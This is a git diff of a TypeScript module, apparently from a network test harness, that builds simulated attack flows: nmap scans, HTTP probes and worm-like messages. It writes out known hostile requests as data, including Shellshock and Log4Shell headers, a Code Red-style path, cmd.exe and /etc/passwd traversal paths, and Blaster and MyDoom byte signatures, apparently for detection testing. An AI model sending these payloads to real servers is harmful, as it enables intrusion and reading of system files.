@@ -1,9 +1,11 @@
-/** The attacks: real tools where there are some, and datagrams that only look like a worm. */
+/** The attacks: real tools where there are some, and messages that only look like a worm. */
 import { sendDatagram } from '../datagram.js';
 import type { Network } from '../network.js';
-import { curl } from './curl.js';
+import { sendStream } from '../stream.js';
+import { curl, type Request } from './curl.js';
 import { type Evidence, FAMILIES, type Family, type Flow, judgeAttack, type Sent } from './flow.js';
 import { countStates, scan } from './nmap.js';
+import { BACKDOOR_PORT, RPC_PORT } from './servers.js';
 
 /** Techniques of nmap's reference guide, "Port Scanning Techniques". */
 const SCANS = [
@@ -13,16 +15,33 @@ const SCANS = [
   ['Maimon scan', '-sM'],
 ] as const;
 
+/** Requests that web servers were broken into with, as every public description of them has it. */
 const PROBES = [
-  ['cmd.exe probe', '/scripts/..%255c../winnt/system32/cmd.exe?/c+dir'],
-  ['path traversal', '/cgi-bin/../../../../etc/passwd'],
+  ['cmd.exe probe', { path: '/scripts/..%255c../winnt/system32/cmd.exe?/c+dir' }],
+  ['Code Red', { path: `/default.ida?${'N'.repeat(224)}%u9090%u6858` }],
+  ['path traversal', { path: '/cgi-bin/../../../../etc/passwd' }],
+  ['Shellshock', { path: '/cgi-bin/status', headers: ['User-Agent: () { :;}; /bin/id'] }],
+  ['Log4Shell', { path: '/login', headers: ['User-Agent: ${jndi:ldap://192.0.2.9/a}'] }],
 ] as const;
+
+/**
+ * What worms are known by, and nothing that could run. Blaster asks for a path that its exploit made up, in UTF-16
+ * (CVE-2003-0352); MyDoom's backdoor takes a program behind five bytes (CERT TA04-028A).
+ */
+const WORMS = [
+  ['Blaster', RPC_PORT, Buffer.from('\\C$\\123456111111111111111.doc', 'utf16le')],
+  ['MyDoom backdoor', BACKDOOR_PORT, Buffer.concat([Buffer.from('85133c9ea2', 'hex'), Buffer.alloc(64)])],
+] as const;
+
+/** How long a worm waits for an answer, in milliseconds. */
+const PATIENCE_MS = 1_500;
 
 /** Every attack, over IPv4 and IPv6, each from a port of its own: one socket of IPv6 may hold a port for both. */
 export const ATTACKS: readonly Flow[] = FAMILIES.flatMap((family, f) => [
   ...SCANS.map(([name, option], i) => scanFlow(name, option, family, 40_001 + 100 * f + i)),
-  ...PROBES.map(([name, path], i) => probeFlow(name, path, family, 41_001 + 100 * f + i)),
-  slammerFlow(family, 42_001 + 100 * f),
+  ...PROBES.map(([name, request], i) => probeFlow(name, request, family, 41_001 + 100 * f + i)),
+  ...WORMS.map(([name, port, bytes], i) => wormFlow(name, port, bytes, family, 42_001 + 100 * f + i)),
+  slammerFlow(family, 43_001 + 100 * f),
 ]);
 
 /** A sender that has done its work, and how to count what arrived. */
@@ -47,17 +66,29 @@ function scanFlow(name: string, option: string, family: Family, sourcePort: numb
   );
 }
 
-/** The connection itself is made; what counts is the request. */
-function probeFlow(name: string, path: string, family: Family, sourcePort: number): Flow {
-  const request = { path: `/${family}${path}`, sourcePort };
+/** The connection itself is made; what counts is the request. The path says over what, so that requests can be told apart. */
+function probeFlow(name: string, request: Request, family: Family, sourcePort: number): Flow {
+  const path = `${request.path}${request.path.includes('?') ? '&' : '?'}${family}`;
   return attack(
     { name, family, sourcePort },
     'requests',
     async ({ attacker, server }) => {
-      const { status } = await curl(attacker, server, family, request);
-      return status === 0 ? 'curl: no answer' : `curl: status ${status}`;
+      const { status } = await curl(attacker, server, family, { ...request, path, sourcePort });
+      return status === 0 ? 'no answer' : `status ${status}`;
     },
-    ({ requests }) => requests.filter((line) => line === `GET ${request.path}`).length,
+    ({ requests }) => requests.filter((line) => line === `GET ${path}`).length,
+  );
+}
+
+function wormFlow(name: string, port: number, bytes: Buffer, family: Family, sourcePort: number): Flow {
+  return attack(
+    { name, family, sourcePort },
+    'messages',
+    async ({ attacker, server }) => {
+      const to = { address: server[family], port, sourcePort, payload: bytes.toString('hex'), patience: PATIENCE_MS };
+      return (await sendStream(attacker, to)) ? 'an answer' : 'no answer';
+    },
+    ({ heard }) => heard(sourcePort),
   );
 }
 
